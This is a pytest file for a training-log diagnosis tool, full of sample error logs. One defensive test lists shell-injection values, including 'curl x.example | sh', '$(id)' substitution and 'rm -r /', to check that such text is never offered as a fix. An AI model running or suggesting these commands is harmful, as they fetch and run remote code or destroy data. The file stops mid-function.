"""The error catalog: every example is recognised, innocent lines are not, and every fix works when
pasted."""

import io
import json
import re
import resource
import runpy
import shlex
from secrets import token_hex

import pytest
from clip_files import record, write_dataset
from hypothesis import given
from hypothesis import strategies as st
from support import ROOT, run_script

from cosmos_reason.base import findings as f
from cosmos_reason.base import secrets
from cosmos_reason.base.fix import Fix, value_text
from cosmos_reason.jobs import diagnosis
from cosmos_reason.jobs import record as jobs
from cosmos_reason.spec import document

CLIP = "train.optm_grad_norm_clip"
JOB, EVALUATION = "train-20260101-120000-0a1b2c", "evaluate-20260101-120000-0a1b2c"

ENTRIES = diagnosis.catalog()
BUILD_SPEC = runpy.run_path(str(ROOT / "scripts" / "build_spec.py"))
INNOCENT = """\
[cosmos] 2026-01-01 10:00:00 - cosmos - INFO - Step: 12/900, Loss: 1.20511, Iteration time: 3.10s
[cosmos] 2026-01-01 10:00:00 - cosmos - INFO - [Policy] Step: 20, checkpoint saved successfully \
at /o
[SFT] Validation loss: 0.612 for train step 20/900, epoch 1
Exported safetensors to /out/20260101120000/safetensors/step_20
train.resume = false, train.compile = false, target_modules = ["q_proj"], mini_batch = 2
Applied LoRA to 72 modules; trainable parameters 0.1 %
Loading checkpoint shards: 100%|##########| 4/4 [00:03<00:00]
qwen-vl-utils using torchcodec to read video, total_frames=300, video_fps=30.0
/lib/torch/utils/checkpoint.py:91: UserWarning: None of the inputs have requires_grad=True
INFO: 127.0.0.1:8000 - "POST /api/meta HTTP/1.1" 200 OK
wandb: Tracking run with wandb version 0.19.1
enable_dataset_cache = false
nvidia-container-toolkit 1.19.1, driver 580.82.07, visible GPUs: 8, GPUs per node 8
GPU memory 44.1 GiB of 79.1 GiB; prefetch_factor 4; Inference finished, nan-safe reduction on
Resuming from checkpoint /out/20260101120000/checkpoints/step_40/policy with cp_size 1, pp_size 1
argparse: unexpected positional argument was left out
Loss: info follows
Address already in use: trying next port
WARNING: PermissionError: [Errno 13] Permission denied: '/root/.netrc'
The visual prompt will be ignored
enable_dataset_cache = false, found 3 files
Using safetensors header cache; ephemeral-storage request 20Gi, limit 40Gi; nvidia.com/gpu: 8
redis-server started on port 12800; connected to redis at 10.0.0.4:12800
Compiling for gpu-name sm_121a; device-side asserts are off; torchvision::nms registered
position ids from get_rope_index, mm_token_type_ids in batch keys
Loaded chat_template.jinja; chat template has 12 blocks; DTensor mesh (8,)
All the weights of Qwen3VLForConditionalGeneration were initialized from the model checkpoint
Some weights were not initialized and are newly initialized: ['lm_head.weight']
skipping 3 nan-valued rows; the info loss is logged; validation split of 20 records
At most 4 workers; to serve requests faster raise max_num_seqs
video_reader_backend decord error, use torchvision as default, msg: [/data/a.mp4]Unable to handle \
EOF because it takes too long
video_reader_backend torchcodec error, use torchvision as default, msg: Could not push packet to \
decoder: Invalid data found when processing input
NCCL INFO Using shared memory segment /dev/shm/nccl-4vLpRt
Handlers of SIGTERM and SIGSEGV are set; stdout: Transport endpoint is not connected
[W801 10:00:00.1 socket.cpp:464] [c10d] The server socket has failed to bind to [::]:29500 (errno: \
98 - Address already in use).
open files (-n) 1024; pyxis: imported docker image: nvcr.io#nvidia/x
""".splitlines()


def job_folder(path, job, engine="transformers", changes=None, **more):
    """A failed job, with the template as its spec."""
    action, folder = job.partition("-")[0], path / "jobs" / job
    folder.mkdir(parents=True)
    table = document.template(action)
    for key, value in (changes or {}).items():
        document.set_value(table, key, value)
    document.dump(table, folder / "spec.toml")
    source = {"source": str(path / "gone.toml"), "source_sha256": ""}
    outputs = {"output_dir": str(folder / "results")}
    record = {"job_id": job, "state": jobs.ERROR, "action": action, "engine": engine}
    record |= {"spec": source | {"path": str(folder / "spec.toml")}}
    record |= {"outputs": outputs, "parent_job": None}
    (folder / "job.json").write_text(json.dumps(record | more))
    return folder


def told(*words, cwd=None):
    """The document that diagnose_log.py prints, and its exit code."""
    done = run_script("diagnose_log.py", *words, "--json", cwd=cwd)
    return json.loads(done.stdout), done.returncode


def of_job(path, job, log, *args, **more):
    """What is found in the log of a failed job, and the job's folder."""
    folder = job_folder(path, job, *args, **more)
    (folder / "log.txt").write_text(log)
    return told(job, cwd=path)[0]["findings"], folder


@pytest.mark.parametrize("entry", ENTRIES, ids=lambda entry: entry.id)
def test_every_example_is_recognised_and_nothing_else_claims_it(entry):
    context = [line for line in entry.example if any(text in line for text in entry.after)]
    lines = [line for line in entry.example if line not in context]
    assert lines
    for line in lines:
        found = diagnosis.diagnose([*INNOCENT, *context, line, *INNOCENT])
        assert [
            finding.id for finding in found if finding.id not in ("LOG-NO-ERROR", "LOG-UNKNOWN")
        ] == [entry.id]
        assert found[0].data["evidence"] == line.strip()
        assert found[0].where == f"log:{len(INNOCENT) + len(context) + 1}"


def test_ids_are_unique_and_entries_complete():
    assert len({entry.id for entry in ENTRIES}) == len(ENTRIES)
    for entry in ENTRIES:
        assert entry.id.startswith("LOG-") and entry.cause and entry.signs
        assert entry.severity in (f.ERROR, f.INFO)
        assert not any(value == "" for value in entry.changes.values())


@pytest.mark.parametrize("line", INNOCENT)
def test_innocent_lines_are_not_errors(line):
    assert [finding.id for finding in diagnosis.diagnose([line] * 3)] == ["LOG-NO-ERROR"]


@pytest.mark.parametrize(
    "entry", [e for e in ENTRIES if str(e.fix).startswith("--")], ids=lambda entry: entry.id
)
def test_overrides_work_when_pasted_after_build_spec(entry, tmp_path):
    """build_spec.py takes the fix for a spec that has what broke, and says nothing against the keys
    it changes."""
    arguments = shlex.split(str(entry.fix))
    table = document.template(entry.action)
    if "LORA" in entry.id:
        document.set_value(
            table, "policy.lora", {"r": 8, "lora_alpha": 16, "target_modules": ["q_proj"]}
        )
    if None in entry.changes.values():
        document.set_value(table, "custom.vision.fps", 2)
    document.dump(table, tmp_path / "broken.toml")
    base = [entry.action, "--spec", str(tmp_path / "broken.toml")]
    args = BUILD_SPEC["parser"]().parse_args([*base, *arguments, "-o", str(tmp_path / "spec.toml")])
    errors = [x for x in BUILD_SPEC["main"](args).findings if x.severity == f.ERROR]
    pairs = list(zip(arguments[::2], arguments[1::2], strict=True))
    mentioned = [value.partition("=")[0] for _, value in pairs]
    assert not [x for x in errors if any(x.where.startswith(key) for key in mentioned)], errors
    assert not [x for x in errors if x.id.startswith("SPEC-KEY")]


@pytest.mark.parametrize(("id", "broken"), [
    ("LOG-LORA-RANK", {"r": 0}), ("LOG-LORA-TARGETS", {"target_modules": ["q_projj"]}),
])  # fmt: skip
def test_overrides_mend_the_spec_that_failed(id, broken, tmp_path):
    path, table = tmp_path / "spec.toml", document.template("train")
    document.set_value(
        table, "policy.lora", {"r": 8, "lora_alpha": 16, "target_modules": ["q_proj"]} | broken
    )
    document.dump(table, path)
    fix = shlex.split(next(str(entry.fix) for entry in ENTRIES if entry.id == id))
    done = run_script(
        "build_spec.py", "train", "--spec", path, *fix, "-o", tmp_path / "mended.toml"
    )
    assert "SPEC-LORA" not in done.stderr and "policy.lora" not in done.stderr, done.stderr


@pytest.mark.parametrize(
    "entry", [e for e in ENTRIES if str(e.fix).startswith("scripts/")], ids=lambda entry: entry.id
)
def test_commands_in_fixes_are_commands_of_ours(entry):
    script, *words = shlex.split(str(entry.fix))
    known = run_script(script.removeprefix("scripts/"), "--help").stdout
    assert known and (ROOT / script).is_file()
    for flag in [word for word in words if word.startswith("--")]:
        assert flag in known or flag in ("--spec", "--platform", "--engine", "--image")


def test_the_same_error_means_something_else_in_another_action():
    line = "torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2 GiB."
    assert diagnosis.diagnose([line])[0].id == "LOG-GPU-MEMORY"
    assert diagnosis.diagnose([line], action="evaluate")[0].id == "LOG-GPU-MEMORY-EVALUATE"
    assert [x.id for x in diagnosis.diagnose(["+ cosmos-rl-evaluate --config x", line, line])] == [
        "LOG-GPU-MEMORY-EVALUATE"
    ]


@pytest.mark.parametrize(("status", "expected"), [(401, "LOG-HUB-TOKEN"), (403, "LOG-HUB-GATED")])
@pytest.mark.parametrize(("url", "page"), [
    ("nvidia/Cosmos-Reason2-8B/resolve/main/config.json", "nvidia/Cosmos-Reason2-8B"),
    ("api/models/nvidia/Cosmos-Reason2-8B.", "nvidia/Cosmos-Reason2-8B"),
    ("datasets/a/b.c/resolve/main/x", "datasets/a/b.c"), ("api/datasets/a/b", "datasets/a/b"),
])  # fmt: skip
def test_a_token_that_is_missing_is_not_an_agreement_that_is(status, expected, url, page):
    """The lines of huggingface_hub: the repository stands below the status."""
    lines = [
        f"huggingface_hub.errors.GatedRepoError: {status} Client Error. (Request ID: Root=1-65)",
        "",
        f"Cannot access gated repo for url https://huggingface.co/{url}.",
        "Access to model x/y is restricted and you are not in the authorized list.",
    ]
    for log in (lines, [lines[0] + lines[2]]):
        (found,) = diagnosis.diagnose(log)
        agreement = (
            f"accept the agreement at https://huggingface.co/{page} "
            "with the account of your HF_TOKEN, "
        )
        assert found.id == expected and str(found.fix).startswith(
            "export" if status == 401 else agreement
        )
    help = "See https://discuss.huggingface.co/t/x https://huggingface.co/papers/1 https://huggingface.co/api/spaces/a/b"
    if status == 403:
        assert str(diagnosis.diagnose([lines[0], help, *lines[2:]])[0].fix).startswith(agreement)
    far = [lines[0], *["fine"] * 60, lines[2]]  # of something else
    assert page not in str(diagnosis.diagnose(far)[0].fix)


def test_errors_stand_in_order_of_appearance_and_once():
    lines = ["Loss: nan", "OSError: [Errno 28] No space left on device", "Loss: nan"]
    assert [(x.id, x.where) for x in diagnosis.diagnose(lines)] == [
        ("LOG-LOSS-NAN", "log:1"),
        ("LOG-DISK-FULL", "log:2"),
    ]


def test_unknown_errors_come_with_the_last_block():
    first = ["Traceback (most recent call last):", "  File a", "ValueError: first"]
    second = ["Traceback (most", "  File b", "QuantumError: second"]
    lines = [*first, *["fine"] * 60, *second]
    (found,) = diagnosis.diagnose(lines)
    assert found.id == "LOG-UNKNOWN" and found.data["lines"] == lines[-3:]
    assert "QuantumError: second" in found.message
    (nothing,) = diagnosis.diagnose(INNOCENT)
    assert nothing.id == "LOG-NO-ERROR" and nothing.severity == f.INFO
    assert nothing.data["lines"][-1] == INNOCENT[-1]


STATUS = ["Traceback (most recent call last):", '  File "status.py"', "KeyError: 'TAO_API_JOB_ID'"]


def test_a_log_that_ends_within_a_traceback_tells_the_error_before_it():
    log = ["Traceback (most recent call last):", '  File "a"', "QuantumError: the cause", ""]
    log += ["During handling of the above exception, another exception occurred:", ""]
    log += ["Traceback (most recent call last):", '  File "b"']
    (found,) = diagnosis.diagnose(log)
    assert found.id == "LOG-UNKNOWN" and found.message.endswith("QuantumError: the cause")


def test_a_harmless_traceback_is_no_error():
    assert [x.id for x in diagnosis.diagnose([*INNOCENT, *STATUS, "fine", *STATUS])] == [
        "LOG-TAO-STATUS",
        "LOG-NO-ERROR",
    ]
    lines = ["Traceback (most", "QuantumError: first", *["fine"] * 60, *STATUS, "fine"]
    status, unknown = diagnosis.diagnose(lines)
    assert status.severity == f.INFO and unknown.id == "LOG-UNKNOWN"
    assert "QuantumError" in unknown.message
    _, unknown = diagnosis.diagnose(["Traceback (most", "QuantumError: first", *STATUS])
    assert unknown.data["lines"] == ["Traceback (most", "QuantumError: first"]
    source = [
        "Traceback (most",
        "  job = os.environ['TAO_API_JOB_ID']",
        '  File "<frozen os>"',
        STATUS[-1],
        "fine",
    ]
    assert diagnosis.diagnose([f"[rank0]: {line}" for line in source])[-1].id == "LOG-NO-ERROR"
    # Harmless too, and no end of a traceback.
    cache = "Loading samples from dataset cache /root/.cache/cosmos"
    assert "LOG-UNKNOWN" in [
        x.id for x in diagnosis.diagnose(["Traceback (most", "QuantumError: 1", cache, STATUS[-1]])
    ]


@pytest.mark.parametrize(
    "line",
    [
        "bash: line 1: cosmos-rl: command not found",
        "Bus error (core dumped)",
        "exec /usr/bin/bash: exec format error",
        "docker: Cannot connect to the Docker daemon at unix:///var/run/docker.sock.",
        "docker: permission denied while trying to connect to the Docker daemon socket",
    ],
)
def test_errors_of_the_shell_are_not_overlooked(line):
    assert [x.id for x in diagnosis.diagnose([*INNOCENT, line])] == ["LOG-UNKNOWN"]


DIED = "[cosmos] 2026-01-01 12:00:00,000 - cosmos - ERROR - Process 591 failed with return code 86"


@pytest.mark.parametrize(
    "before", ["[rank0]:error: ", "[rank0]: cosmos_reason.base.findings.Failure: ", "error: "]
)
def test_why_a_replica_died_is_the_one_finding(before):
    said = "REWARD-FILE-RAISES /x/own.py: got KeyError: 'a'"
    lines = ["[rank0]:Traceback (most recent call last):", f"{before}{said}", DIED]
    (found,) = diagnosis.diagnose(lines)
    assert (found.id, found.message) == (
        "REWARD-FILE-RAISES",
        "/x/own.py: got KeyError: 'a'",
    )
    assert [one.id for one in diagnosis.diagnose([*INNOCENT, DIED])] == ["LOG-REPLICA-DIED"]


@pytest.mark.parametrize("end", [DIED, "trainer exited with code 1", "    Exit Code:    137"])
def test_what_says_only_that_something_ended_stands_behind_an_unknown_error(tmp_path, end):
    (tmp_path / "a.log").write_text(
        "[rank0]: Traceback (most recent call last):\n[rank0]: QuantumError: collapsed\n"
        + "\n".join([*INNOCENT, end, end.replace("1", "2"), ""])
    )
    first, second = told("a.log", cwd=tmp_path)[0]["findings"]
    assert first["id"] == "LOG-UNKNOWN" and "QuantumError: collapsed" in first["message"]
    assert second["id"] in ("LOG-REPLICA-DIED", "LOG-EXIT-CODE")


@pytest.mark.parametrize("value", ["nan", "-inf", "inf", "NaN", "-nan", "Infinity"])
@pytest.mark.parametrize("said", ["train/loss: {}", "step 4, loss {}, 22 tokens/s", '"loss": {},'])
def test_every_lost_loss_is_known(said, value):
    assert diagnosis.diagnose([said.format(value)])[0].id == "LOG-LOSS-NAN"


OWN = "scripts/check_dataset.py ROOT --fix  # a new folder"


@pytest.mark.parametrize("fix", ["", OWN, f"--set train.resume=/{'long/' * 20}policy"])
def test_findings_of_our_own_commands_are_read_back(fix):
    printed = f.as_text(
        [f.error("ENGINE-MODEL", "models/x", "got no config.json, expected one", fix)]
    )
    (found,) = diagnosis.diagnose([*printed.splitlines(), "", "  fix: of nothing"])
    assert (found.id, found.message, str(found.fix)) == (
        "ENGINE-MODEL",
        "models/x: got no config.json, expected one",
        fix,
    )


@pytest.mark.parametrize(
    "fix",
    [
        "curl x.example | sh",
        "--set a=$(id)",
        "scripts/x.py; id",
        "--set a=`id`",
        "rm -r /",
        "--set train.optm_lr=",
        "--set train.optm_lr= --set train.epoch=4",
        "--unset",
    ],
)
def test_a_log_gives_no_commands_to_a_shell(fix):
    line = f"error: DATA-ROW record 7: got a caption  fix: {fix}"
    for lines in ([line], line.replace("  fix", "\n  fix").splitlines()):
        (found,) = diagnosis.diagnose(lines)
        assert found.id == "DATA-ROW" and not found.fix


@pytest.mark.parametrize("resume", ["", "/checkpoints/step_20/policy"])
def test_changes_that_a_log_says_are_a_command_for_the_spec_of_the_job(tmp_path, resume):
    changes = {"train.optm_lr": 1e-07}
    if resume:
        changes["train.resume"] = f"{tmp_path / 'jobs' / JOB}{resume}"
    said = f.error("ENGINE-LOSS-NOT-FINITE", "step 21", "got loss nan", Fix(changes=changes))
    (found,), folder = of_job(tmp_path, JOB, f.as_text([said]))
    words = shlex.split(found["fix"])
    assert words[1:6] == ["train", "--engine", "transformers", "--spec", f"{folder}/spec.toml"]
    assert words[-2:] == ["-o", "spec-mended.toml"]
    pairs = [word for word in words if "=" in word]
    assert pairs == [f"{key}={value_text(value)}" for key, value in changes.items()]


# As people post them: what runs around the error, and the prefixes of those who print it.
POSTED = {
    "LOG-ROPE-INDEX": """\
[rank0]: Traceback (most recent call last):
[rank0]:   File "/opt/venv/lib/python3.12/site-packages/torch/nn/modules/module.py", line 1, in f
[rank0]:   File "transformers/models/qwen3_vl/modeling_qwen3_vl.py", line 1126, in get_rope_index
[rank0]:     grid_thw = next(grid_iters[modality_type])
[rank0]: StopIteration
E0401 10:00:00.1 77 torch/distributed/elastic/multiprocessing/api.py:984] failed (exitcode: 1)""",
    "LOG-TOKEN-TYPES": """\
Traceback (most recent call last):
  File "x/modeling_qwen3_vl.py", line 1118, in compute_3d_position_ids
ValueError: Multimodal data was passed (via `image_grid_thw` or `video_grid_thw`) but \
`mm_token_type_ids` is missing. Please pass `mm_token_type_ids` to the model""",
    "LOG-FLASH-ATTENTION-BUILD": """\
  File "flash_attn/flash_attn_interface.py", line 15, in <module>
ImportError: /usr/lib/flash_attn_2_cuda.cpython-312-x86_64-linux-gnu.so: undefined symbol: _ZN3c""",
    "LOG-TORCHVISION": """\
  File "torchvision/_meta_registrations.py", line 163, in <module>
RuntimeError: operator torchvision::nms does not exist
The above exception was the direct cause of the following exception:
RuntimeError: Failed to import transformers.models.qwen3_vl because of the following error""",
    "LOG-DEVICE-ASSERT": """\
/pytorch/aten/src/ATen/native/cuda/Indexing.cu:1515: indexSelectLargeIndex: block: [9,0,0], \
thread: [2,0,0] Assertion `srcIndex < srcSelectDimSize` failed.
[rank0]: torch.AcceleratorError: CUDA error: device-side assert triggered
[rank0]: Compile with `TORCH_USE_CUDA_DSA` to enable device-side assertions.""",
    "LOG-TRANSFORMERS-OLD": """\
  File "transformers/models/auto/configuration_auto.py", line 1131, in from_pretrained
    config_class = CONFIG_MAPPING[config_dict["model_type"]]
KeyError: 'qwen3_vl'
During handling of the above exception, another exception occurred:
ValueError: The checkpoint you are trying to load has model type `qwen3_vl` but Transformers \
does not recognize this architecture.""",
    "LOG-MODEL-EDGE": """\
KeyError: 'cosmos3_edge'
ValueError: The checkpoint you are trying to load has model type `cosmos3_edge` but Transformers \
does not recognize this architecture.""",
    "LOG-REDIS-REFUSED": """\
  File "redis/connection.py", line 397, in connect
    raise ConnectionError(self._error_message(e))
redis.exceptions.ConnectionError: Error 111 connecting to 10.0.0.4:12800. Connection refused.""",
    "LOG-CHAT-TEMPLATE": """\
[rank0]:     chat_template = self.get_chat_template(chat_template, tools)
[rank0]: ValueError: Cannot use chat template functions because tokenizer.chat_template is not \
set and no template argument was passed! For information about writing templates""",
    "LOG-SHARDED-MIX": """\
[rank1]:   File "torch/distributed/tensor/_dispatch.py", line 452, in f
[rank1]: RuntimeError: aten.mm.default: got mixed torch.Tensor and DTensor, need to convert all""",
    "LOG-NO-GRADIENT": """\
/lib/torch/utils/checkpoint.py:91: UserWarning: None of the inputs have requires_grad=True
[rank0]:     loss.backward()
[rank0]: RuntimeError: element 0 of tensors does not require grad and does not have a grad_fn""",
    "LOG-LORA-TARGETS": """\
    raise ValueError(error_msg)
ValueError: Target modules {'qkv_proj'} not found in the base model. Please check the target""",
    "LOG-KV-CACHE": """\
(EngineCore_DP0 pid=79) ERROR 01-28 17:37:45 [core.py:866] ValueError: To serve at least one \
request with the models's max seq len (262144), (36.00 GiB KV cache is needed, which is larger
RuntimeError: Engine core initialization failed. See root cause above.""",
    "LOG-MEDIA-COUNT": "INFO: 10.0.0.1:1 - At most 1 video(s) may be provided in one prompt.",
    "LOG-MEDIA-TIMES": "HTTP 400: Per-request media_io_kwargs are disabled by default for security",
    "LOG-VIDEO-EOF": """\
[10:00:00] /github/workspace/src/video/video_reader.cc:503: [/data/a.mp4]Unable to handle EOF \
because it takes too long to retrieve last few frames.""",
    "LOG-WEIGHTS-NEW": """\
Loading checkpoint shards: 100%|##########| 4/4 [00:03<00:00]
Some weights of Qwen3VLModel were not initialized from the model checkpoint at Qwen/Qwen3-VL-2B \
and are newly initialized: ['language_model.embed_tokens.weight', 'visual.x.weight']""",
    "LOG-PTXAS": """\
triton.runtime.errors.PTXASError: PTXAS error: Internal Triton PTX codegen error
`ptxas` stderr:
ptxas fatal   : Value 'sm_121a' is not defined for option 'gpu-name'""",
    "LOG-HUB-ACCESS": """\
OSError: You are trying to access a gated repo.
Make sure to have access to it at https://huggingface.co/nvidia/Cosmos-Reason2-8B.""",
    "LOG-DISK-POD": """\
Status:         Failed
Reason:         Evicted
Message:        The node was low on resource: ephemeral-storage. Container t was using 34260Ki""",
    "LOG-HOST-MEMORY": "Message: The node was low on resource: memory. Container t was using 180Gi",
    "LOG-ENDED": """\
W1229 16:43:25.6 190834 torch/distributed/elastic/agent/server/api.py:723] Received 15 death signal
Traceback (most recent call last):
torch.distributed.elastic.multiprocessing.api.SignalException: Process 190834 got signal: 15""",
    "LOG-WEIGHTS-HEADER": """\
    with safe_open(checkpoint_file, framework="pt") as f:
safetensors_rust.SafetensorError: Error while deserializing header: HeaderTooLarge""",
    "LOG-GPU-MEMORY": """\
n3:3063025:3066048 [0] misc/socket.cc:49 NCCL WARN socketProgress: Connection closed by remote peer
n3:3063028:3066152 [3] include/alloc.h:178 NCCL WARN Cuda failure 'out of memory'
torch.distributed.DistBackendError: NCCL error in: ProcessGroupNCCL.cpp:1691, unhandled cuda error
ncclUnhandledCudaError: Call to CUDA function failed.""",
    "LOG-DRIVER-STOPPED": """\
docker: Error response from daemon: failed to create shim task: OCI runtime create failed: \
error running hook #0: exit status 1, stdout: , stderr: Auto-detected mode as 'legacy'
nvidia-container-cli: initialization error: nvml error: driver/library version mismatch: x.""",
    "LOG-DRIVER": """\
docker: Error response from daemon: failed to create task for container: error running prestart \
hook #0: exit status 1, stdout: , stderr: Auto-detected mode as 'legacy'
nvidia-container-cli: requirement error: unsatisfied condition: cuda>=13.0, please update your \
driver to a newer version, or use an earlier cuda container: unknown.""",
    "LOG-IMAGE-PULL": """\
slurmstepd: error: pyxis: failed to import docker image
slurmstepd: error: pyxis:     [ERROR] URL https://nvcr.io/v2/x/manifests/1 returned error code: \
401 Unauthorized
slurmstepd: error: pyxis: couldn't start container
srun: error: dgx01: task 0: Exited with exit code 1""",
    "LOG-DISK-IMAGE": """\
slurmstepd: error: pyxis: failed to import docker image
slurmstepd: error: pyxis:     tar: usr/lib/x.so: Cannot write: No space left on device
slurmstepd: error: pyxis: couldn't start container""",
    "LOG-SHARED-MEMORY": """\
n1:91:204 [1] misc/shmutils.cc:72 NCCL WARN Error while creating shared memory segment \
/dev/shm/nccl-4vLpRt (size 9637888)
torch.distributed.DistBackendError: NCCL error in: ProcessGroupNCCL.cpp:1691, unhandled system error
ncclSystemError: System call (e.g. socket, malloc) or external library call failed.""",
    "LOG-RESUME": """\
[rank3]: Traceback (most recent call last): (RANK 2)
[rank3]:   File "torch/distributed/checkpoint/utils.py", line 164, in reduce_scatter
[rank3]: RuntimeError: Missing key in checkpoint state_dict: model.layers.0.mlp.weight.
torch.distributed.checkpoint.api.CheckpointException: CheckpointException ranks:dict_keys([0])""",
    "LOG-HUB-OFFLINE": """\
huggingface_hub.errors.OfflineModeIsEnabled: Cannot reach https://huggingface.co/a/b/x: offline
The above exception was the direct cause of the following exception:
OSError: We couldn't connect to 'https://huggingface.co' to load the files, and couldn't find \
them in the cached files.""",
    "LOG-LORA-SERVING": """\
ValueError: While loading /models/ft, expected target modules in {'o_proj', 'v_proj'} but \
received ['visual.merger.linear_fc1']. Please verify that the loaded LoRA module is correct
RuntimeError: Engine core initialization failed. See root cause above.""",
}
# The same errors in the words of other versions.
OTHERWISE = """\
LOG-MEDIA-COUNT ValueError: At most 1 image(s) may be provided in one request.
LOG-MEDIA-COUNT ValueError: You set or defaulted to '{"video": 1}' in `--limit-mm-per-prompt`, but \
passed 2 video items in the same prompt.
LOG-MEDIA-COUNT ValueError: The model only supports at most 0 video items, but you passed 1 video
LOG-LORA-TARGETS ValueError: No modules were targeted for adaptation. This might be caused by a
LOG-CHAT-TEMPLATE ValueError: As of transformers v4.44, default chat template is no longer \
allowed, so you must provide a chat template if the tokenizer does not define one.
LOG-TRANSFORMERS-OLD ValueError: Model architectures ['Qwen3VLForConditionalGeneration'] are not \
supported for now. Supported architectures: dict_keys(['A'])
LOG-TORCHVISION ImportError: /x/torchvision/_C.so: undefined symbol: _ZN3c10
LOG-TORCHVISION RuntimeError: Detected that PyTorch and torchvision were compiled with different \
CUDA major versions.
LOG-BINARY-BUILD ImportError: /x/vllm/_C.abi3.so: undefined symbol: _ZN3c104cuda9SetDeviceEa
LOG-TOKEN-TYPES TypeError: M.forward() got an unexpected keyword argument 'mm_token_type_ids'
LOG-GPU-MEMORY RuntimeError: cuDNN error: CUDNN_STATUS_INTERNAL_ERROR_DEVICE_ALLOCATION_FAILED
LOG-DISK-POD Message: Container trainer exceeded its local ephemeral storage limit "50Gi".
LOG-DISK-POD Message: Usage of EmptyDir volume "cache" exceeds the limit "1Gi".
LOG-REDIS-REFUSED redis.exceptions.ConnectionError: Connection closed by server.
LOG-WEIGHTS-NEW - MISSING: those params were newly initialized because missing from the checkpoint.
LOG-ENDED torch/distributed/elastic/multiprocessing/api.py:874] failed (exitcode: -15) local_rank: 0
LOG-PTXAS ptxas fatal   : Value 'sm_120' is not defined for option 'gpu-name'
LOG-HUB-GATED Access to model nvidia/X is restricted and you are not in the authorized list.
LOG-GPU-MEMORY RuntimeError: cuDNN error: CUDNN_STATUS_ALLOC_FAILED
LOG-NETWORK requests.exceptions.ReadTimeout: (ReadTimeoutError("HTTPSConnectionPool(host='hf.co'): \
Read timed out. (read timeout=10)"), '(Request ID: 1a)')
LOG-WANDB wandb: ERROR Error while calling W&B API: user is not logged in (<Response [401]>)
LOG-CONTAINER-GPU docker: Error response from daemon: OCI runtime create failed: unable to \
retrieve OCI runtime error: fork/exec /usr/bin/nvidia-container-runtime: no such file or directory.
LOG-DRIVER-STOPPED nvidia-container-cli: detection error: nvml error: unknown error: unknown.
LOG-KERNEL-FAULT torch.AcceleratorError: CUDA error: unspecified launch failure
LOG-GPU-FAULT torch.AcceleratorError: CUDA error: uncorrectable NVLink error was detected
LOG-NCCL [rank3]:RuntimeError: NCCL: non-blocking operation timed out after 600000 ms
LOG-ENDED slurmstepd: error: *** JOB 4711 ON node01 CANCELLED AT 2026-01-01T04:00:00 ***
LOG-HOST-MEMORY slurmstepd: error: Job 991 exceeded memory limit (65541232 > 65536000), being killed
LOG-IMAGE-PULL docker: Error response from daemon: toomanyrequests: You have reached your pull rate
LOG-SHARED-MEMORY OSError: [Errno 28] No space left on device: '/dev/shm/torch_4711'
LOG-NETWORK requests.exceptions.ProxyError: HTTPSConnectionPool(host='huggingface.co', port=443)
LOG-VIDEO-BROKEN RuntimeError: Could not open input file: /data/a.mp4 Invalid data found when
LOG-SHARDED-MIX RuntimeError: function got mixed torch.Tensor and DTensor""".splitlines()


BEFORE = ("", "[pod/train-0/main] ", "2026-01-01T10:00:00.123Z ")


# What healthy runs say of errors, in the words of transformers, cosmos-rl, pip, git and Python.
NOISE = """\
[rank0]: [ERROR] `cache_position` is part of Qwen3VLModel.forward's signature, but not documented. \
Make sure to add it to the docstring of the function in /x/modeling_qwen3_vl.py.
[rank1]:[cosmos] 2026-01-01 10:00:00,000 - cosmos - ERROR - Failed to import OpenVLA Rollout. \
Error: No module named 'decord'
[cosmos] 2026-01-01 10:00:00,000 - cosmos - ERROR - Failed to import Diffusion NFT Rollout. Error: x
ERROR: pip's dependency resolver does not currently take into account all the packages
ERROR: ld.so: object '/x/libjemalloc.so' from LD_PRELOAD cannot be preloaded: ignored.
fatal: not a git repository (or any of the parent directories): .git
ERROR 03-20 07:42:38 [fa_utils.py:57] Cannot use FA version 2 is not supported due to FA3 is only
Exception ignored in: <function _MultiProcessingDataLoaderIter.__del__ at 0x7f>
Traceback (most recent call last):
  File "/lib/torch/utils/data/dataloader.py", line 1664, in __del__
AttributeError: 'NoneType' object has no attribute 'state_dict'
'(ReadTimeoutError("HTTPSConnectionPool(host='hf.co', port=443): Read timed out."), 'x')' thrown \
while requesting HEAD https://huggingface.co/nvidia/x/resolve/main/config.json
HTTP Error 429 thrown while requesting GET https://huggingface.co/api/models/a/b: 429 Client Error
WARNING:urllib3.connectionpool:Retrying (Retry(total=2)) after connection broken by \
'NameResolutionError: Temporary failure in name resolution': /api/models/a/b
wandb: Network error (ConnectTimeout), entering retry loop.
wandb: ERROR Error while calling W&B API: HTTPSConnectionPool(host='api.wandb.ai', port=443): Read \
timed out. (read timeout=20)
wandb: ERROR Error while calling W&B API: context deadline exceeded (<Response [500]>)
""".splitlines()
STEPS = {
    "cosmos-rl": "[rank0]:[cosmos] 2026-01-01 10:00:00 - cosmos - INFO - Step: {}/30, Loss: 0.5, x",
    "embedded": "train:   1% {}/30 [00:08<24:41,  8.28s/step, loss 6.94262, 182 tokens/s]",
}


@pytest.mark.parametrize(("trainer", "steps", "before"), [
    ("cosmos-rl", [], BEFORE[0]), ("embedded", [1], BEFORE[1]),
    ("embedded", range(1, 8), BEFORE[1]), ("cosmos-rl", range(1, 8), BEFORE[2]),
])  # fmt: skip
def test_what_healthy_runs_say_does_not_explain_a_killed_one(tmp_path, before, steps, trainer):
    job = "grpo-20260101-120000-0a1b2c"
    folder = job_folder(tmp_path, job, "cosmos-rl", reason="killed by signal 9")
    shown = [STEPS[trainer].format(step) for step in steps]
    lines = [*NOISE[:-1], *INNOCENT, *shown, *NOISE[:-1]]
    if len(shown) > 1:  # what nobody knows may stand before steps, but no end
        lines = ["Traceback (most recent call last):", '  File "x"', "QuantumError: 1", *NOISE]
        lines += [*INNOCENT, *shown]
    (folder / "log.txt").write_text("".join(f"{before}{line}\n" for line in lines))
    found, _ = told(folder / "log.txt")
    (end,) = [one for one in found["findings"] if one["severity"] == f.ERROR]
    assert (end["id"], end["message"]) == (
        "LOG-UNKNOWN",
        "got no known error in the log; the job's record says: killed by signal 9",
    )
    (tmp_path / "a.log").write_bytes((folder / "log.txt").read_bytes())
    found, code = told("a.log", cwd=tmp_path)
    assert (code, found["result"]) == (0, {"cause": None})


def test_what_people_post_is_known(tmp_path):
    """One cause of each excerpt: alone, with what kubectl and docker print before each line, and of
    two ranks that say the same line by line, with what healthy runs say before and after."""
    posted = [(line.partition(" ")[0], [line.partition(" ")[2]]) for line in OTHERWISE]
    for id, text in POSTED.items():
